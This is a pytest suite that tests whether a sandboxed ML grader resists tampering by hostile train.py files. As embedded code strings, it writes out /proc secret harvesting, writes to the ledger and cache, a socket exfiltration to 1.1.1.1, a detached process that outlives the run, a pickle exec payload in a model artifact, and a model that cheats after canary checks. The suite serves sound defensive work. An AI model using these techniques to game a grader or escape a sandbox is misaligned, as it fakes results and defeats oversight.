"""Tamper suite: train.py variants that attack the grader, each through the real `just eval` path.

One throwaway workspace (conftest.make_workspace) with a committed tiny train.py is shared by all
cases, so the data cache is built once and every case sees the ledger the earlier ones left. Each
case commits its train.py on its own exp/attack-* branch and runs `just eval --max-steps 2` in the
bwrap sandbox. An attack must fail inside the sandbox (its TAMPER report says what it could not
reach, and the host shows nothing changed) or get an `invalid`/`timeout` row naming why; no `ok` row
may carry an unearned number, earlier ledger bytes stay identical, and the unmodified train.py gets
an `ok` row (no false alarm). Attacks know the host's real paths (baked into their code), so what
stops them is the sandbox, not ignorance.

Cost: ~20-40 s per case on 2 CPU cores (eval and train start-up dominate), ~10 min for the file.
Needs bwrap (skips itself otherwise). Run: `just test tests/e2e/test_tamper.py`.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest
from conftest import git, make_workspace, run_env, tiny_train

from lab import jobs, ledger
from lab.grader import sandbox

pytestmark = [pytest.mark.slow, pytest.mark.skipif(not sandbox.available()[0], reason="bwrap cannot run here")]

TOKEN = secrets.token_hex(4)
SECRET = f"tamper-secret-{TOKEN}"  # in eval's environment: must never reach train.py
MARKER = f"lab-tamper-{TOKEN}"  # in the command line of every process an attack leaves behind
START = "def train(cfg: Config) -> None:\n"
EXPORTED = '    torch.export.save(program, cfg.out_dir / "model.pt2")\n'
PROLOGUE = ("    import json as _json, os, socket, subprocess, sys\n"
            "    def report(**kw):\n"
            "        print('TAMPER ' + _json.dumps(kw, default=str), flush=True)\n")


class Host:
    """What the attacks are told about the host, and what the checks compare against."""

    def __init__(self, ws: Path, corpus: Path):
        self.ws, self.corpus = ws, corpus
        self.data = next((ws / ".cache" / "data").glob("*/manifest.json")).parent
        self.earlier = next((ws / ".cache" / "runs").glob("*/model.pt2")).parent
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen()
        self.port = self.listener.getsockname()[1]
        self.connections: list[bytes] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            conn, _ = self.listener.accept()
            self.connections.append(conn.recv(1 << 16))
            conn.close()

    def digests(self) -> dict[str, str]:
        """sha256 of every file an attack tries to change."""
        files = [*self.data.iterdir(), *self.earlier.iterdir(), self.ws / "eval.py", self.ws / "prepare.py",
                 self.ws / "lab" / "ledger.py"]
        return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files if p.is_file()}


@pytest.fixture(scope="module")
def host(tmp_path_factory, corpus) -> Host:
    ws = make_workspace(tmp_path_factory.mktemp("tamper") / "ws")
    tiny_train(ws)
    git("commit", "-qam", "tiny baseline", cwd=ws)
    git("tag", "base", cwd=ws)
    proc = just_eval(ws, corpus)  # builds the data cache and leaves an earlier run's artifact
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return Host(ws, corpus)


def just_eval(ws: Path, corpus: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(["just", "eval", "--source", str(corpus), "--max-steps", "2", *args], cwd=ws,
                          env=run_env(TAMPER_SECRET=SECRET), capture_output=True, text=True, timeout=600,
                          start_new_session=True)


def reports(proc: subprocess.CompletedProcess) -> dict:
    found = [json.loads(line.split("TAMPER ", 1)[1]) for line in proc.stdout.splitlines() if "TAMPER {" in line]
    assert found, "the attack never reported: " + proc.stdout[-2000:]
    return {k: v for r in found for k, v in r.items()}


def leftovers() -> list[str]:
    """Command lines of host processes an attack started (they carry MARKER)."""
    alive = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if MARKER.encode() in cmdline and str(os.getpid()) != pid:
            alive.append(cmdline.decode(errors="replace"))
    return alive


def attack(host: Host, name: str, *edits: tuple[str, str], files: dict[str, bytes] | None = None,
           eval_args: tuple[str, ...] = ()) -> tuple[dict, subprocess.CompletedProcess]:
    """Commit the attack on exp/attack-NAME from the baseline, run `just eval`, check the ledger; (row, proc)."""
    ws = host.ws
    git("checkout", "-q", "-B", f"exp/attack-{name}", "base", cwd=ws)
    (ws / "train.py").write_text(git("show", "base~1:train.py", cwd=ws))  # main's train.py, before tiny_train
    tiny_train(ws, *edits)
    for rel, data in (files or {}).items():
        (ws / rel).write_bytes(data)
    git("add", "train.py", *(files or {}), cwd=ws)
    git("commit", "-q", "--allow-empty", "-m", f"attack: {name}", cwd=ws)  # staged files only: never the ledger
    # An experiment's eval needs a smoke pass on its content (issue 10's gate, a guidance layer): recorded here as
    # `just smoke` would, since what is under attack is the grader, and a smoke of the attack would run it twice.
    jobs.record_smoke(ws, jobs.content_key(ws), jobs.file_sha(ws / "eval.py"), jobs.file_sha(ws / "train.py"),
                      git("rev-parse", "HEAD", cwd=ws).strip(), 0.0)
    before = (ws / "results.tsv").read_bytes()
    digests = host.digests()
    proc = just_eval(ws, host.corpus, *eval_args)
    after = (ws / "results.tsv").read_bytes()
    assert after.startswith(before), "earlier ledger bytes changed"
    assert after.count(b"\n") == before.count(b"\n") + 1, "not exactly one new row"
    rows, problems = ledger.read(ws / "results.tsv")
    assert problems == []
    row = rows[-1]
    assert row["slug"] == f"attack-{name}" and row["sandbox"].startswith("bwrap ")
    assert host.digests() == digests, "a file of the workspace changed"
    assert SECRET not in proc.stdout, "eval's environment reached train.py"
    assert leftovers() == [], "a process of the attack outlived eval"
    return row, proc


def code(body: str) -> tuple[str, str]:
    """An edit that runs `body` (4-space indented) at the top of train()."""
    return START, START + PROLOGUE + body


def after_export(body: str) -> tuple[str, str]:
    return EXPORTED, EXPORTED + PROLOGUE + body


def assert_earned(row: dict, proc: subprocess.CompletedProcess) -> None:
    """An ok row whose number comes from this run's honest training: the attack changed nothing."""
    assert row["status"] == "ok", row["reason"] + proc.stdout[-2000:]
    assert 1.0 < float(row["val_bpb"]) < 9.0 and float(row["train_s"]) <= float(row["train_wall_s"])


# ------------------------------------------------------------------------------------- no false alarm


def test_the_unmodified_train_py_gets_an_ok_row_in_the_sandbox(host):
    row, proc = attack(host, "none")
    assert_earned(row, proc)


# ------------------------------------------------------------------------------------- reading val or test


def test_reads_val_and_test_from_the_data_dir(host):
    row, proc = attack(host, "data-dir", code(
        "    report(listing=sorted(os.listdir(cfg.data_dir)),\n"
        "           found=[n for n in ('val.bin', 'test.bin', 'manifest.json') if (cfg.data_dir / n).exists()])\n"))
    assert reports(proc) == {"listing": ["train.bin"], "found": []}
    assert_earned(row, proc)


def test_reads_val_from_the_data_dirs_parents_and_the_hosts_cache(host):
    row, proc = attack(host, "data-parents", code(
        "    seen = []\n"
        f"    for d in [cfg.data_dir.resolve(), *cfg.data_dir.resolve().parents, Path({str(host.data)!r})]:\n"
        "        for name in ('val.bin', 'test.bin', 'manifest.json'):\n"
        "            try:\n"
        "                (d / name).read_bytes()\n"
        "                seen.append(str(d / name))\n"
        "            except OSError:\n"
        "                pass\n"
        "    report(readable=seen)\n"))
    assert reports(proc) == {"readable": []}
    assert_earned(row, proc)


def test_searches_the_whole_filesystem_for_val_and_test_bytes(host):
    sizes = {(host.data / f"{s}.bin").stat().st_size: hashlib.sha256((host.data / f"{s}.bin").read_bytes()).hexdigest()
             for s in ("val", "test")}
    row, proc = attack(host, "walk", code(
        "    import hashlib\n"
        f"    sizes, hits = {sizes!r}, []\n"
        "    for root, dirs, files in os.walk('/'):\n"
        "        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ('/proc', '/sys', '/dev')]\n"
        "        for f in files:\n"
        "            p = os.path.join(root, f)\n"
        "            if f in ('val.bin', 'test.bin', 'results.tsv') or os.path.isfile(p) and not os.path.islink(p) \\\n"
        "                    and sizes.get(os.path.getsize(p)) == hashlib.sha256(open(p, 'rb').read()).hexdigest():\n"
        "                hits.append(p)\n"
        "    report(hits=hits)\n"))
    assert reports(proc) == {"hits": []}
    assert_earned(row, proc)


def test_reads_eval_through_proc(host):
    row, proc = attack(host, "proc", code(
        "    dump = {}\n"
        f"    pids = sorted({{*filter(str.isdigit, os.listdir('/proc')), str(os.getppid()), '{os.getpid()}'}})\n"
        "    for pid in pids:\n"
        "        for what in ('cwd', 'root', 'exe'):\n"
        "            try:\n"
        "                dump[f'{pid}/{what}'] = os.readlink(f'/proc/{pid}/{what}')\n"
        "            except OSError as e:\n"
        "                dump[f'{pid}/{what}'] = type(e).__name__\n"
        "        for what in ('environ', 'cmdline'):\n"
        "            try:\n"
        "                dump[f'{pid}/{what}'] = open(f'/proc/{pid}/{what}', 'rb').read().decode(errors='replace')\n"
        "            except OSError as e:\n"
        "                dump[f'{pid}/{what}'] = type(e).__name__\n"
        "        try:\n"
        "            dump[f'{pid}/fd'] = [os.readlink(f'/proc/{pid}/fd/{fd}') for fd in os.listdir(f'/proc/{pid}/fd')]\n"
        "        except OSError as e:\n"
        "            dump[f'{pid}/fd'] = type(e).__name__\n"
        "    report(pids=sorted(filter(str.isdigit, os.listdir('/proc'))), dump=dump, env=dict(os.environ))\n"))
    found = reports(proc)
    assert found["pids"] == ["1"], "host processes are visible"
    text = json.dumps(found)
    assert str(host.ws) not in text and SECRET not in text and "TAMPER_SECRET" not in text
    assert_earned(row, proc)


# ------------------------------------------------------------------------------------- writing outside /out


def writes(*targets: str) -> tuple[str, str]:
    return code(
        "    wrote = []\n"
        f"    for target in {list(targets)!r}:\n"
        "        try:\n"
        "            with open(target, 'ab') as f:\n"
        "                f.write(b'tampered\\n')\n"
        "            wrote.append(target)\n"
        "        except OSError:\n"
        "            pass\n"
        "    report(wrote=wrote)\n")


def test_writes_the_ledger(host):
    row, proc = attack(host, "ledger", writes(str(host.ws / "results.tsv"), "/src/results.tsv", "results.tsv"))
    assert reports(proc) == {"wrote": []}
    assert_earned(row, proc)


def test_writes_the_data_cache(host):
    targets = [str(host.data / n) for n in ("val.bin", "train.bin", "manifest.json")]
    row, proc = attack(host, "cache", writes(*targets, "/data/train.bin", "/data/val.bin"))
    assert reports(proc) == {"wrote": []}
    assert_earned(row, proc)


def test_writes_a_frozen_file(host):
    row, proc = attack(host, "frozen", writes(str(host.ws / "eval.py"), str(host.ws / "lab" / "ledger.py"), "/src/eval.py"))
    assert reports(proc) == {"wrote": []}
    assert_earned(row, proc)


def test_writes_another_runs_artifact(host):
    row, proc = attack(host, "other-run", writes(str(host.earlier / "model.pt2"), str(host.earlier / "train_info.json"),
                                                 "/out/../" + host.earlier.name + "/model.pt2"))
    assert reports(proc) == {"wrote": []}
    assert_earned(row, proc)


def test_writes_home_and_the_hosts_tmp(host):
    targets = [f"/tmp/{MARKER}", str(Path.home() / MARKER), f"/home/train/{MARKER}"]
    row, proc = attack(host, "home-tmp", writes(*targets))
    assert set(reports(proc)["wrote"]) == {f"/tmp/{MARKER}", f"/home/train/{MARKER}"}  # the sandbox's own, thrown away
    assert not any(Path(t).exists() for t in targets), "a write reached the host's /tmp or home"
    assert_earned(row, proc)


def test_opens_a_network_socket(host):
    row, proc = attack(host, "network", code(
        "    result = {}\n"
        f"    for addr in [('127.0.0.1', {host.port}), ('1.1.1.1', 53)]:\n"
        "        try:\n"
        "            socket.create_connection(addr, timeout=3).sendall(b'val bytes')\n"
        "            result[str(addr)] = 'sent'\n"
        "        except OSError as e:\n"
        "            result[str(addr)] = type(e).__name__\n"
        "    report(result=result)\n"))
    assert "sent" not in reports(proc)["result"].values()
    assert host.connections == []
    assert_earned(row, proc)


# ------------------------------------------------------------------------------------- outliving the run


def test_a_detached_child_dies_with_the_run(host):
    late = "/out/written-after-train-exited"
    child = (f"import os, time  # {MARKER}\n"
             "while not os.path.exists('/out/train_info.json'): time.sleep(0.1)\n"
             f"time.sleep(5)\nopen({late!r}, 'w').write('alive')\n"
             f"open({str(host.ws / 'results.tsv')!r}, 'a').write('late')\n")
    row, proc = attack(host, "detached", code(
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        f"            os.execv(sys.executable, [sys.executable, '-c', {child!r}])\n"
        "        os._exit(0)\n"
        "    report(forked=True)\n"))
    assert_earned(row, proc)
    time.sleep(2)
    out_dir = host.ws / ".cache" / "runs" / row["run_id"]
    assert not (out_dir / Path(late).name).exists() and leftovers() == []


def test_trains_past_the_budget_and_reports_train_s_1(host):
    row, proc = attack(host, "overtime", code(
        f"    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # {MARKER}'])\n"
        "    import time as _t\n"
        "    _t.sleep(90)  # 'untimed' work the budget never sees\n"),
        ('"train_s": round(train_s, 3)', '"train_s": 1'), eval_args=("--hard-limit-s", "20"))
    assert row["status"] == "timeout" and "hard limit of 20s" in row["reason"] and "measured by eval" in row["reason"]
    assert 20 <= float(row["train_wall_s"]) < 40 and row["val_bpb"] == ""


def test_reports_more_train_s_than_it_ran(host):
    row, _ = attack(host, "lies", ('"train_s": round(train_s, 3)', '"train_s": 9999.0'))
    assert row["status"] == "invalid" and "reports train_s 9999.0" in row["reason"]


# ------------------------------------------------------------------------------------- artifacts that run code or count


def test_exports_a_pickle_payload(host):
    pwned = host.ws / "pwned-by-artifact"
    payload = (
        "    import io, zipfile\n"
        "    class Payload:\n"
        "        def __reduce__(self):\n"
        f"            return exec, (\"open({str(pwned)!r}, 'w').write('ran in eval')\",)\n"
        "    path = cfg.out_dir / 'model.pt2'\n"
        "    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))\n"
        "    files = {i.filename: src.read(i) for i in src.infolist()}\n"
        "    name = next(n for n in files if n.endswith('model_weights_config.json'))\n"
        "    config = _json.loads(files[name])\n"
        "    entry = config['config']['head.weight']\n"
        "    entry['use_pickle'] = True\n"
        "    buf = io.BytesIO()\n"
        "    torch.save(Payload(), buf)\n"
        "    files[name] = _json.dumps(config).encode()\n"
        "    files[name.rsplit('/', 1)[0] + '/' + entry['path_name']] = buf.getvalue()\n"
        "    with zipfile.ZipFile(path, 'w') as out:\n"
        "        for n, data in files.items():\n"
        "            out.writestr(n, data)\n"
        "    report(rewrote=True)\n")
    row, _ = attack(host, "pickle", after_export(payload))
    assert row["status"] == "invalid" and "head.weight" in row["reason"] and "use_pickle" in row["reason"]
    assert not pwned.exists(), "the payload ran in eval"


def test_exports_a_tensor_subclass_parameter(host):
    row, _ = attack(host, "subclass", ("    model.eval()\n", "    model.eval()\n"
                                       "    from torch.testing._internal.two_tensor import TwoTensor\n"
                                       "    w = model.head.weight.detach()\n"
                                       "    model.head.weight = nn.Parameter(TwoTensor(w.clone(), w.clone()))\n"))
    assert row["status"] == "invalid" and "head.weight" in row["reason"] and "use_pickle" in row["reason"]


def test_exports_a_call_counting_program_that_cheats_after_the_canaries(host):
    row, _ = attack(host, "counter", ("    model.eval()\n", "    model.eval()\n"
                                      "    class Counting(nn.Module):\n"
                                      "        def __init__(self, inner):\n"
                                      "            super().__init__()\n"
                                      "            self.inner = inner\n"
                                      "            self.register_buffer('calls', torch.zeros((), dtype=torch.long))\n"
                                      "        def forward(self, idx):\n"
                                      "            self.calls += 1\n"
                                      "            honest = self.inner(idx)\n"
                                      "            peek = 50.0 * F.one_hot(idx.roll(-1, dims=1), 256).float()\n"
                                      "            return torch.where(self.calls <= 6, honest, peek)\n"
                                      "    model = Counting(model)\n"))
    assert row["status"] == "invalid" and "writes to calls in place" in row["reason"]


def test_loads_weights_from_outside_its_run_dir(host):
    row, proc = attack(host, "outside-weights", after_export(
        f"    theirs = Path({str(host.earlier / 'model.pt2')!r})\n"
        "    try:\n"
        "        data = theirs.read_bytes()\n"
        "    except OSError as e:\n"
        "        data = None\n"
        "    report(read_theirs=data is not None)\n"
        "    (cfg.out_dir / 'model.pt2').unlink()\n"
        "    (cfg.out_dir / 'model.pt2').symlink_to(theirs)  # eval would follow it on the host\n"))
    assert reports(proc) == {"read_theirs": False}
    assert row["status"] == "invalid" and "model.pt2 is not a regular file" in row["reason"]


# ------------------------------------------------------------------------------------- what the commit carries


def test_commits_a_50_mb_weights_file(host):
    row, proc = attack(host, "big-commit", files={"weights.bin": bytes(50 << 20)})
    assert row["status"] == "invalid" and "weights.bin adds 52,428,800 bytes beyond main's tree" in row["reason"]
    assert row["train_wall_s"] == "" and "train |" not in proc.stdout + proc.stderr  # refused before training


def test_commits_a_symlink_to_val(host):
    link = host.ws / "val_link.bin"
    link.symlink_to(host.data / "val.bin")
    git("add", "val_link.bin", cwd=host.ws)
    try:
        row, _ = attack(host, "link-commit", code("    report(link=True)\n"))
    finally:
        git("rm", "-q", "--cached", "val_link.bin", cwd=host.ws)
        link.unlink()
    assert row["status"] == "invalid" and "val_link.bin is a symlink" in row["reason"] and "outside the tree" in row["reason"]
